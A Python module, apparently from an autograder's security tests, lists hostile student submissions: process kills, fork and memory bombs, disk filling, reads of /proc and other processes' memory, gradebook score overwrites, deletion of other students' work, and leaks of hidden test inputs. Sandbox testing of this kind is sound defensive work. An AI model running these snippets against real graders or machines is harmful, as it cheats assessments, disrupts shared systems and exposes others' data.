"""Work that wants to harm the run, the machine or other students, or to read what is not its own."""

from __future__ import annotations

from attacks.attack import Attack

_READ = """
import glob, os
def look(path):
    try:
        with open(path, "rb") as file: return file.read(200_000).decode("latin-1")
    except OSError as error: return type(error).__name__
"""

ENDINGS = {
    "os._exit": Attack("import os; os._exit(0)", ends=True),
    "sys.exit": Attack("import sys; sys.exit(0)", ends=True),
    "SIGKILL to itself": Attack("import os; os.kill(os.getpid(), 9)", ends=True),
    "a broken memory": Attack("import ctypes; ctypes.string_at(0)", ends=True),
    "os._exit in the answer": Attack("import os\ndef add(a, b): os._exit(0)"),
    "SystemExit in the answer": Attack("def add(a, b): raise SystemExit(0)"),
    "KeyboardInterrupt in the answer": Attack("def add(a, b): raise KeyboardInterrupt"),
    "an exit hook": Attack("""
import atexit, os
atexit.register(lambda: os.write(1, b'{"done": true}'))
atexit.register(os._exit, 0)"""),
    "SIGKILL to the parent": Attack(
        """
import os
try: os.kill(os.getppid() or 1, 9)
except OSError: pass"""
    ),
    "SIGKILL to everybody": Attack("""
import os
try: os.kill(-1, 9)
except OSError: pass"""),
    "SIGSTOP to everybody": Attack("""
import os, signal
for number in (*range(1, 400), -1):
    if number != os.getpid():
        try: os.kill(number, signal.SIGSTOP)
        except OSError: pass"""),
    "signals are caught": Attack("""
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)"""),
    "an alarm that ends it": Attack(
        """
import signal
signal.signal(signal.SIGALRM, signal.SIG_DFL)
signal.setitimer(signal.ITIMER_REAL, 0.001)
while True: pass""",
        ends=True,
    ),
    "a recursion without end": Attack("""
import sys
sys.setrecursionlimit(10**6)
def add(a, b): return add(a, b)"""),
    "an answer that nests without end": Attack("""
def add(a, b):
    made = []
    for _ in range(100_000): made = [made]
    return made"""),
    "it stops itself": Attack("""
import os, signal
def add(a, b):
    os.kill(os.getpid(), signal.SIGSTOP)
    return a - b"""),
    "a loop that ignores the interrupt": Attack("""
import signal
def add(a, b):
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])
    while True: pass"""),
}

RESOURCES = {
    "a fork bomb": Attack("""
import os, time
for _ in range(300):
    try:
        if os.fork() == 0: time.sleep(30); os._exit(0)
    except OSError: break"""),
    "threads that go on": Attack("""
import threading, time
def on():
    while True: time.sleep(0.05)
for _ in range(8): threading.Thread(target=on, daemon=False).start()"""),
    "a memory bomb": Attack("""
import mmap
held = [bytearray(2**28)]
try:
    for _ in range(64): held.append(mmap.mmap(-1, 2**28))
    print("there was room for sixteen gigabytes")
except (MemoryError, OSError): held.clear()"""),
    "an answer of a gigabyte": Attack("def add(a, b): return 'x' * 2**30"),
    "a full disk": Attack("""
try:
    for number in range(40):
        with open(f"f{number}", "wb") as file: file.write(bytes(2**24))
except OSError: pass"""),
    "a huge file": Attack("""
try:
    with open("huge", "wb") as file:
        file.seek(2**40); file.write(b"x")
except OSError: pass"""),
    "many small files": Attack("""
import os
try:
    for number in range(30_000): os.close(os.open(f"s{number}", os.O_CREAT | os.O_WRONLY))
except OSError: pass"""),
    "a folder too deep to walk": Attack("""
import os
for _ in range(2_000): os.mkdir("d"); os.chdir("d")"""),
    "output without end": Attack("for _ in range(50_000): print('x' * 100)", ends=True),
    "output past Python": Attack("import os\nfor _ in range(1_000): os.write(1, b'y' * 9_999)"),
    "a daemon": Attack("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)"""),
    "a daemon that ignores signals": Attack("""
import os, signal, time
if os.fork() == 0:
    os.setsid(); os.chdir("/")
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP): signal.signal(number, signal.SIG_IGN)
    time.sleep(300)"""),
    "children that take the processor": Attack("""
import os, time
until = time.time() + 3
for _ in range(30):
    try:
        if os.fork() == 0:
            os.setsid()
            while time.time() < until: pass
            os._exit(0)
    except OSError: break"""),
    "its folders become links": Attack("""
import os, threading
def swap():
    for round in range(300):
        for name in (".tmp", "data"):
            try:
                os.rename(name, f"{name}{round}") if os.path.lexists(name) else None
                os.symlink({submitted!r} if round % 2 else "/", name)
            except OSError: pass
threading.Thread(target=swap).start()"""),
    "every descriptor is closed": Attack("import os; os.closerange(3, 256)", ends=True),
}

READERS = {
    "the tests, the solutions, the others": Attack(
        _READ
        + """
for root in ({course!r}, {submitted!r}, {out!r}, "..", "/"):
    for pattern in ("", "*", "*/*", "*/*/*"):
        for path in glob.glob(os.path.join(root, pattern) + "*.ipynb")[:50]: print(look(path)[:9000])"""
    ),
    "by their names": Attack(
        _READ
        + """
for path in ({source!r}, {other!r}, {gradebook!r}, {gradebook!r} + "-wal"): print(look(path))"""
    ),
    "/proc": Attack(
        _READ
        + """
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    print(look(path)[:9000])
for path in glob.glob("/proc/*/fd/*"): print(look(path)[:5000])
for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"): print(look(path + {source!r})[:9000])"""
    ),
    "its environment": Attack("import os; print(dict(os.environ))"),
    "its own memory": Attack("""
import re
said = bytes([52, 55, 49, 49])
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for low, high in re.findall(r"^(\\w+)-(\\w+) rw", maps.read(), re.MULTILINE):
        try:
            memory.seek(int(low, 16)); content = memory.read(int(high, 16) - int(low, 16))
        except (OSError, OverflowError, ValueError): continue
        for at in re.finditer(rb"returns\\(" + said, content): print(content[at.start() - 99:at.end()])"""),
    "the memory of others": Attack("""
import ctypes, os
libc, found = ctypes.CDLL(None), "helio" + "trope"
room = ctypes.create_string_buffer(4096)
def vector(at): return (ctypes.c_size_t * 2)(at, 4096)
for pid in [os.getppid(), *range(1, 200)]:
    if pid == os.getpid(): continue
    if libc.ptrace(16, pid, None, None) == 0: print(found)
    read = libc.process_vm_readv(pid, vector(ctypes.addressof(room)), 1, vector(0x400000), 1, 0)
    if read > 0: print(found)
    try: print(open(f"/proc/{pid}/mem", "rb") and found)
    except OSError: pass"""),
    "descriptors that were inherited": Attack("""
import os, socket, stat
for number in range(3, 64):
    try: kind = os.fstat(number).st_mode
    except OSError: continue
    print(number, os.readlink(f"/proc/self/fd/{number}"), stat.S_ISDIR(kind))
    if stat.S_ISSOCK(kind):
        with socket.socket(fileno=os.dup(number)) as line:
            try: print(line.recv(9_000, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except OSError: pass
    elif stat.S_ISREG(kind): print(os.pread(number, 9_000, 0))
    elif stat.S_ISDIR(kind): print("helio" + "trope")"""),
    "the collector's texts": Attack("""
import gc
gc.unfreeze()
mark = "returns(" + str(4000 + 711)
for found in gc.get_objects():
    if type(found) in (list, tuple, dict):
        for text in (list(found.values()) if type(found) is dict else found):
            if type(text) is str and mark in text and mark != text: print(text)"""),
    "by links": Attack(
        _READ
        + """
for number, path in enumerate(({source!r}, {other!r}, {gradebook!r})):
    for link in (os.symlink, os.link):
        try: link(path, f"link{number}{link.__name__}")
        except OSError: pass
for path in glob.glob("link*"): print(look(path))"""
    ),
    "the gradebook is written": Attack("""
import sqlite3
try:
    with sqlite3.connect({gradebook!r}) as book:
        book.execute("update grade set manual_score = 99, auto_score = 99")
        book.execute("begin exclusive")
except sqlite3.Error: pass"""),
    "results and notes are written": Attack("""
for name in ("results.json", ".graded.jsonl", "feedback/ada/ch01.html", ".lock"):
    try:
        with open({out!r} + "/" + name, "w") as file: file.write("[]")
    except OSError: pass"""),
    "the others' work is written": Attack("""
import os
for change in (lambda: open({other!r}, "w"), lambda: os.remove({other!r}), lambda: os.chmod({other!r}, 0)):
    try: change()
    except OSError: pass"""),
    "the grader's own files are written": Attack("""
import grader, os
for path in (grader.__file__, os.__file__, os.path.dirname(os.__file__) + "/sitecustomize.py"):
    try:
        with open(path, "a") as file: file.write("# a mark of an attack\\n")
    except OSError: pass"""),
    "the network": Attack("""
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(1); out.connect(("127.0.0.1", {port})); out.send(b"stolen")
    except OSError: pass"""),
    "the network, by another program": Attack("""
import subprocess, sys
code = "import socket; socket.create_connection(('127.0.0.1', {port}), 1).send(b'stolen')"
subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL, timeout=9)"""),
    "arguments are carried to another task": Attack(
        """
seen = []
def add(a, b):
    seen.append((a, b))
def max(numbers): raise ValueError(f"{seen}")""",
        score=0,
    ),
    "arguments are carried in a returned value": Attack(
        """
seen = []
def add(a, b):
    seen.append((a, b))
def max(numbers): return seen""",
        score=0,
    ),
    "arguments are carried by the name of a missing name": Attack(
        """
seen = []
def add(a, b):
    seen.append((a, b))
def max(numbers): raise NameError(f"name 'n{seen[-1][0]}' is not defined")""",
        score=0,
    ),
    "arguments are carried by a class that says it": Attack(
        """
seen = []
def add(a, b):
    seen.append((a, b))
def max(numbers): return type(f"Seen{seen[-1][0]}", (), {})()""",
        score=0,
    ),
    "arguments are carried by the line that raised": Attack(
        """
import linecache
seen = []
def add(a, b):
    seen.append((a, b))
def max(numbers):
    name = f"seen {seen}"
    linecache.cache[name] = (1, None, [f"raise ValueError({seen})\\n"], name)
    exec(compile("raise ValueError()", name, "exec"))""",
        score=0,
    ),
    "arguments are told by a thread later": Attack("""
import threading, time
seen = []
def add(a, b):
    seen.append((a, b))
def tell():
    for _ in range(100):
        time.sleep(0.02); print(seen)
threading.Thread(target=tell, daemon=True).start()"""),
    "arguments are carried by a broken app": Attack(
        """
seen = []
def add(a, b):
    seen.append((a, b))
class max:
    def __new__(cls, numbers): return super().__new__(cls)
    def __repr__(self): return f"{seen}"
    __str__ = __repr__
    @property
    def __class__(self): raise ValueError(f"{seen}")""",
        score=0,
    ),
    "arguments are left lying about for a later run": Attack(
        """
import os
places = [".", "~", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", os.environ.get("TMPDIR", ".")]
def add(a, b):
    for place in places:
        try:
            with open(os.path.expanduser(place) + "/seen.txt", "a") as file: file.write(f"{a} ")
        except OSError: pass
def found():
    for place in places:
        try: yield open(os.path.expanduser(place) + "/seen.txt").read()
        except OSError: pass
def max(numbers): raise ValueError(f"{[*found()]}")""",
        score=0,
    ),
    "arguments are carried to the next cell": Attack("""
seen = []
def add(a, b):
    seen.append((a, b))
get_ipython().events.register("pre_run_cell", lambda *a: print(seen))"""),
    "arguments are carried out": Attack("""
seen = []
def add(a, b):
    seen.append((a, b))
    raise ValueError(str((a, b)))"""),
}
"""Where these say `{source!r}` and the like, the class puts in the places of the run."""
